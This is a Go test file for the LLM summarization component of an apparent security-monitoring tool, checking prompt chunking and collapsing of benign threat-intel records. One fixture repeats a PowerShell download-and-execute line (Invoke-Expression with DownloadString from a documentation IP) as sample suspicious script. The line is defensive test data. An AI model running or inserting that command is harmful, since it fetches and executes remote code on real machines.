package llm

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/spotter-soc/spotter/internal/config"
	"github.com/spotter-soc/spotter/internal/llm/fakellm"
	"github.com/spotter-soc/spotter/internal/skill"
)

// summaryModel is a model on a fake server that answers every call with
// a short summary naming the call.
func summaryModel(t *testing.T, contextTokens, maxTokens int) (*Model, *fakellm.Server) {
	t.Helper()
	srv := fakellm.New("")
	srv.Respond = func(n int, r fakellm.Request) fakellm.Step { return fakellm.Step{Text: fmt.Sprintf("summary %d", n)} }
	t.Cleanup(srv.Close)
	var logs bytes.Buffer
	m, err := NewModel("sum", config.LLMProvider{Kind: config.LLMKindOpenAICompatible, BaseURL: srv.URL + "/v1", Model: "m",
		ContextSize: contextTokens, MaxTokens: maxTokens}, newGateway(t, &logs))
	if err != nil {
		t.Fatal(err)
	}
	return m, srv
}

func records(n int, level skill.Level, text string) []Record {
	out := make([]Record, n)
	for i := range out {
		out[i] = Record{Label: fmt.Sprintf("%s-%03d.example", level, i), Kind: "domain", Level: level, Score: i % 100, Text: text}
	}
	return out
}

func TestSummarizeOneCallWhenItFits(t *testing.T) {
	m, srv := summaryModel(t, 8192, 512)
	recs := append(records(5, skill.Malicious, "VirusTotal 40/90"), records(45, skill.Benign, "clean")...)
	s, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Records: recs})
	if err != nil {
		t.Fatal(err)
	}
	if s.Calls != 1 || s.Chunks != 0 || s.Collapsed != 0 || len(srv.Requests()) != 1 {
		t.Fatalf("%+v after %d requests", s, len(srv.Requests()))
	}
	for _, r := range recs {
		if !strings.Contains(srv.Requests()[0].Raw, r.Label) {
			t.Errorf("%s missing from the prompt", r.Label)
		}
	}
}

func TestSummarizeCollapsesBenignAndUnknownFirst(t *testing.T) {
	m, srv := summaryModel(t, 4096, 256)
	recs := append(records(300, skill.Benign, "no engine flagged it; first seen 2019; registrar Example Inc."), records(4, skill.Malicious, "ThreatFox: botnet C2")...)
	recs = append(recs, records(100, skill.Unknown, "not in any feed")...)
	s, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Records: recs})
	if err != nil {
		t.Fatal(err)
	}
	if s.Calls != 1 || s.Collapsed != 400 {
		t.Fatalf("%+v", s)
	}
	raw := srv.Requests()[0].Raw
	for _, r := range recs[300:304] {
		if !strings.Contains(raw, r.Label) || !strings.Contains(raw, "botnet C2") {
			t.Errorf("malicious %s must be listed with its evidence", r.Label)
		}
	}
	if !strings.Contains(raw, "300 benign domain") || !strings.Contains(raw, "100 unknown domain") {
		t.Errorf("the quiet records must be counted: %.400s", raw)
	}
}

func TestSummarizeMapReduceNeverCutsOff(t *testing.T) {
	m, srv := summaryModel(t, 2048, 128)
	long := strings.Repeat("beacon to 198.51.100.23 every 60 s; ", 12)
	recs := records(120, skill.Malicious, long)
	s, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Context: map[string]string{"title": "Beaconing"}, Records: recs})
	if err != nil {
		t.Fatal(err)
	}
	reqs := srv.Requests()
	if s.Chunks < 2 || s.Calls != len(reqs) || s.Calls <= s.Chunks || s.Text != fmt.Sprintf("summary %d", len(reqs)-1) {
		t.Fatalf("%+v after %d requests", s, len(reqs))
	}
	var mapped strings.Builder
	for _, r := range reqs[:s.Chunks] {
		if est := len(r.Raw) / 4; est > 2048 {
			t.Errorf("a map request of about %d tokens exceeds the 2048-token context", est)
		}
		mapped.WriteString(r.Raw)
	}
	for _, r := range recs {
		if !strings.Contains(mapped.String(), r.Label) {
			t.Errorf("%s was cut off", r.Label)
		}
	}
	if last := reqs[len(reqs)-1].Raw; !strings.Contains(last, "summary of part") && !strings.Contains(last, "merged summary") {
		t.Errorf("the last call must reduce the partial summaries: %.300s", last)
	}
}

func TestSummarizeSplitsOneHugeRecord(t *testing.T) {
	m, srv := summaryModel(t, 2048, 128)
	huge := Record{Label: "decoded script", Level: skill.Suspicious, Text: strings.Repeat("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a'); ", 300)}
	s, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Records: []Record{huge}})
	if err != nil {
		t.Fatal(err)
	}
	if s.Chunks < 2 {
		t.Fatalf("%+v", s)
	}
	var total int
	for _, r := range srv.Requests()[:s.Chunks] {
		total += strings.Count(r.Raw, "DownloadString")
	}
	if total != 300 {
		t.Errorf("%d of 300 statements reached the model", total)
	}
}

func TestSummarizeRefusesAContextTooSmall(t *testing.T) {
	m, _ := summaryModel(t, 900, 512)
	_, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Records: records(3, skill.Malicious, "x")})
	if err == nil || !strings.Contains(err.Error(), "context_tokens 900") {
		t.Fatalf("err %v", err)
	}
}
